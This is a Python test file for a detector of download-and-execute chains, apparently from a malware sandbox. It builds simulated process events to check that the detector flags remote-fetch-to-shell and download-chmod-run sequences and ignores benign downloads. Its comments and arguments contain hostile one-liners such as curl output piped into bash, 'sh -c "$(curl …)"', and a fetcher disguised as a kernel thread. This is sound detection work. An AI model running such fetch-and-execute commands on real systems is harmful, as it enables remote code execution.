from __future__ import annotations

import hashlib
from dataclasses import replace
from pathlib import Path

from detonate.detect.correlations.download_exec import DownloadExecChain
from detonate.detect.interface import RunView
from detonate.model.events import DataWritten
from detonate.model.findings import Severity

from .stream import Stream
from .written_files import written

DETECTOR = DownloadExecChain()


def rule_ids(stream: Stream) -> list[str]:
    return [f.rule_id for f in DETECTOR.detect(stream.view())]


def test_renamed_fetcher_piped_through_gunzip_into_bash_is_caught() -> None:
    # (curl -s http://… | gunzip | bash): nothing named wget or curl, a filter in between
    s = Stream()
    s.exec(1, "bash", "-c", "…", path="/bin/bash")
    s.fork(1, 2)
    s.fork(1, 3)
    s.fork(1, 4)
    s.exec(2, "kthreadd", path="/tmp/.k")
    s.exec(3, "gunzip", path="/bin/gunzip")
    s.exec(4, "bash", path="/bin/bash")
    s.connect(2, "198.51.100.7", 8443)
    s.exit(2)
    s.exit(3)
    s.exit(4)
    assert rule_ids(s) == ["download-pipe-shell"]


def test_command_substitution_into_sh_c_is_caught() -> None:
    # sh -c "$(curl -fsSL http://x.test/i)"
    s = Stream()
    s.exec(1, "sh", "-c", 'sh -c "$(curl -fsSL http://x.test/i)"', path="/bin/sh")
    s.fork(1, 2)  # the $( … ) subshell
    s.spawn(2, 3, "curl", "-fsSL", "http://x.test/i")
    s.connect(3, "192.0.2.10", 80)
    s.exit(3)
    s.exit(2)
    s.spawn(1, 4, "sh", "-c", "echo pwned", path="/bin/sh")
    assert rule_ids(s) == ["download-pipe-shell"]


def test_download_renamed_chmodded_and_run_is_caught() -> None:
    s = Stream()
    s.exec(1, "sh", "/entry.sh", path="/bin/sh")
    s.spawn(1, 2, "python3", "fetch.py", path="/usr/bin/python3")
    s.connect(2, "203.0.113.9", 80)
    s.write(2, "/var/tmp/.a")
    s.exit(2)
    from detonate.model.events import FileRenamed

    s.add(FileRenamed, 1, path="/var/tmp/.a", new_path="/var/tmp/.b")
    s.chmod(1, "/var/tmp/.b")
    s.spawn(1, 3, "/var/tmp/.b", path="/var/tmp/.b")
    assert rule_ids(s) == ["download-write-exec"]


def test_downloaded_file_that_is_never_run_is_not_a_chain() -> None:
    # B4: apt-like fetch of an index and a .deb into the cache, nothing executed
    s = Stream()
    s.exec(1, "sh", "/usr/local/bin/install-extras", path="/bin/sh")
    s.spawn(1, 2, "wget", "-O", "/var/cache/apt/archives/x.deb", "http://deb.mirror.test/x.deb")
    s.connect(2, "192.0.2.80", 80)
    s.write(2, "/var/cache/apt/archives/x.deb")
    s.exit(2)
    s.spawn(1, 3, "ls", "/var/cache/apt/archives")
    assert rule_ids(s) == []


def test_local_health_check_output_is_not_a_download_to_shell() -> None:
    # B1: wget -q -O- localhost/healthz || echo failed — loopback, and no shell reads it
    s = Stream()
    s.exec(1, "sh", "/srv/run.sh", path="/bin/sh")
    s.spawn(1, 2, "wget", "-q", "-O-", "http://localhost:8080/healthz")
    s.connect(2, "127.0.0.1", 8080)
    s.exit(2)
    s.spawn(1, 3, "sleep", "5")
    assert rule_ids(s) == []


def test_sequential_download_then_unrelated_shell_is_not_a_pipe() -> None:
    # curl -o f URL; sh -c 'echo done' — the download finished before the shell was forked
    s = Stream()
    s.exec(1, "sh", "/entry.sh", path="/bin/sh")
    s.spawn(1, 2, "curl", "-o", "/opt/data.json", "http://api.test/data")
    s.connect(2, "192.0.2.5", 443)
    s.write(2, "/opt/data.json")
    s.exit(2)
    s.spawn(1, 3, "sh", path="/bin/sh")
    assert rule_ids(s) == []


def _updater_run(tmp_path: Path, lock: bytes) -> RunView:
    # a Ruby updater (its lock file next to it) downloads a tool, writes it and runs it
    s = Stream()
    s.exec(1, "ruby", "/srv/updater/update.rb", path="/usr/bin/ruby")
    s.connect(1, "198.51.100.30", 443)
    s.write(1, "/srv/updater/tools/helm")
    s.add(DataWritten, 1, path="/srv/updater/tools/helm", fd=5, bytes=64)
    s.spawn(1, 2, "helm", "version", path="/srv/updater/tools/helm")
    s.files = written(tmp_path / "written", {"/srv/updater/tools/helm": "#!/bin/sh\necho v3\n"})
    image = {"/srv/updater/update.rb": b"require 'net/http'\n", "/srv/updater/tools.lock": lock}
    return replace(s.view(), artifacts_dir=tmp_path / "written", image_files=image)


def test_a_download_whose_digest_the_image_pins_is_medium(tmp_path: Path) -> None:
    digest = hashlib.sha256(b"#!/bin/sh\necho v3\n").hexdigest()
    (pinned,) = DETECTOR.detect(_updater_run(tmp_path, f"helm {digest.upper()}\n".encode()))
    assert (pinned.rule_id, pinned.severity) == ("download-write-exec", Severity.MEDIUM)
    assert "pinned in /srv/updater/tools.lock" in pinned.why
    (unpinned,) = DETECTOR.detect(_updater_run(tmp_path, b"helm " + b"0" * 64 + b"\n"))
    assert unpinned.severity is Severity.CRITICAL
